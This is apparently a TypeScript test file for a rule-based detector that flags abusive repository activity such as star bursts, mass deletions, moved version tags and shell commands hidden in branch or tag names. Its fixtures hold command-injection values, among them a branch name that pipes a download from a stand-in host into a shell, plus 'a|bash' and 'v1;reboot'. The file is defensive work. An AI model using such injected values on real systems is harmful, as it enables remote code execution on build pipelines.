import { describe, expect, it } from "vitest";
import type { Activity } from "../activity.ts";
import { activity } from "../activity-under-test.ts";
import type { FeatureName } from "../feature-vector.ts";
import { observed } from "../observation-under-test.ts";
import { RuleDetector } from "./rule-detector.ts";
import { STARTER_RULES } from "./starter-rules.ts";

type Case = [rule: string, what: string, Activity, Partial<Record<FeatureName, number>>];

const OWN = { actor: "alice", repo: "alice/app" };
const BOT = { actor: "dependabot[bot]" };
const request = (headRef?: string) => activity("pull-request", { headRef });
const moved = (given: object) => activity("ref-move", { ref: "refs/tags/v4.2", from: "a", to: "b", ...given });
const comment = (given = {}) => activity("comment", { ...OWN, ...given });
const repository = (given = {}) => activity("create", { what: "repository", ref: undefined, ...given });
const CROWD = { "repo.actors_10m": 7, "repo.events_1m": 4, "repo.newcomers_1h": 6, "repo.actors_1h": 7 };
const FAN_OUT = { "actor.repos_10m": 12, "actor.owners_1h": 2.5 };
const SAME = { "text.actors_1h": 6, "text.repos_1h": 6 };

const HITS: Case[] = [
  ["shell-in-ref", "a command in a branch name", request("x$(curl evil.example|sh)"), {}],
  ["shell-in-ref", "a back tick in it", request("`id`"), {}],
  ["shell-in-ref", "a chain of commands", request("a&&b"), {}],
  ["shell-in-ref", "a pipe into a shell", request("a|bash"), {}],
  ["shell-in-new-ref", "a command in a new tag", activity("create", { what: "tag", ref: "v1;reboot" }), {}],
  ["version-tag-moved", "a version that points elsewhere", moved({}), {}],
  ["star-burst", "many newcomers at once", activity("star"), CROWD],
  ["self-flood", "forty comments on one's own", comment(), { "actor.events_1h": 40 }],
  ["self-flood", "forty issues of one's own", activity("issue", OWN), { "actor.events_1h": 40 }],
  ["repository-flood", "forty repositories in an hour", repository(OWN), { "actor.repos_1h": 40 }],
  ["push-fan-out", "pushes to twelve repositories", activity("push"), FAN_OUT],
  ["dead-drop", "six accounts, one description", repository(), SAME],
  ["same-text-everywhere", "one text in twelve repositories", activity("issue"), { "text.repos_1h": 12 }],
  ["publication-wave", "six repositories made public", activity("public"), { "actor.repos_10m": 6 }],
  ["mass-deletion", "sixty branches deleted", activity("delete"), { "actor.events_1h": 60 }],
];

const MISSES: Case[] = [
  ["shell-in-ref", "an ordinary branch", request("feature/login-form_v2.1"), {}],
  ["shell-in-ref", "dollars and pipes apart", request("costs-5$|or-6"), {}],
  ["shell-in-ref", "no branch", request(), {}],
  ["shell-in-new-ref", "a semicolon at the end", activity("create", { ref: "a;" }), {}],
  ["shell-in-new-ref", "a new repository", repository(), {}],
  ["version-tag-moved", "a new tag", moved({ from: undefined }), {}],
  ["version-tag-moved", "a deleted tag", moved({ to: undefined }), {}],
  ["version-tag-moved", "a branch", moved({ ref: "refs/heads/v4.2" }), {}],
  ["version-tag-moved", "a moving major tag", moved({ ref: "refs/tags/v4" }), {}],
  ["star-burst", "regulars among them", activity("star"), { ...CROWD, "repo.newcomers_1h": 5.9 }],
  ["star-burst", "newcomers unknown", activity("star"), { ...CROWD, "repo.newcomers_1h": Number.NaN }],
  ["star-burst", "spread over time", activity("star"), { ...CROWD, "repo.events_1m": 3 }],
  ["star-burst", "a few", activity("star"), { ...CROWD, "repo.actors_10m": 6.9 }],
  ["self-flood", "on another's repository", activity("comment"), { "actor.events_1h": 400 }],
  ["self-flood", "by automation", comment({ actor: "a-bot", repo: "a-bot/x" }), { "actor.events_1h": 400 }],
  ["self-flood", "thirty-nine", comment(), { "actor.events_1h": 39.9 }],
  ["repository-flood", "in an organisation", repository(), { "actor.repos_1h": 400 }],
  ["repository-flood", "thirty-nine", repository(OWN), { "actor.repos_1h": 39.9 }],
  ["push-fan-out", "to one owner", activity("push"), { ...FAN_OUT, "actor.owners_1h": 2.4 }],
  ["push-fan-out", "to eleven", activity("push"), { ...FAN_OUT, "actor.repos_10m": 11.9 }],
  ["push-fan-out", "by automation", activity("push", BOT), FAN_OUT],
  ["dead-drop", "by five accounts", repository(), { ...SAME, "text.actors_1h": 5.9 }],
  ["dead-drop", "in five repositories", repository(), { ...SAME, "text.repos_1h": 5.9 }],
  ["dead-drop", "by automation", repository(BOT), SAME],
  ["same-text-everywhere", "in eleven", activity("issue"), { "text.repos_1h": 11.9 }],
  ["same-text-everywhere", "by automation", activity("issue", BOT), { "text.repos_1h": 99 }],
  ["publication-wave", "five", activity("public"), { "actor.repos_10m": 5.9 }],
  ["mass-deletion", "fifty-nine", activity("delete"), { "actor.events_1h": 59.9 }],
  ["mass-deletion", "by automation", activity("delete", BOT), { "actor.events_1h": 600 }],
];

const detector = new RuleDetector(STARTER_RULES);
const hitsOf = (of: Activity, features: Case[3]) =>
  detector.judge(observed(features, { of })).map(({ rule }) => rule.id);

describe("the starter rules", () => {
  it.each(HITS)("%s hits %s", (rule, _what, of, features) => {
    expect(hitsOf(of, features)).toEqual([rule]);
  });

  it.each(MISSES)("%s does not hit: %s", (_rule, _what, of, features) => {
    expect(hitsOf(of, features)).toEqual([]);
  });

  it("are all seen to hit and to miss", () => {
    const ids = STARTER_RULES.map(({ id }) => id).sort();
    for (const cases of [HITS, MISSES]) expect([...new Set(cases.map(([rule]) => rule))].sort()).toEqual(ids);
  });

  it("say what they mean in a sentence and have an id of their own", () => {
    for (const { says } of STARTER_RULES) expect(says).toMatch(/^[A-Z].*\.$/);
    expect(new Set(STARTER_RULES.map(({ id }) => id)).size).toBe(STARTER_RULES.length);
  });

  it("hit nothing of an ordinary first activity of any kind", () => {
    for (const kind of ["push", "issue", "star", "fork", "release", "member", "public", "wiki", "other"] as const) {
      expect(hitsOf(activity(kind), {})).toEqual([]);
    }
  });
});
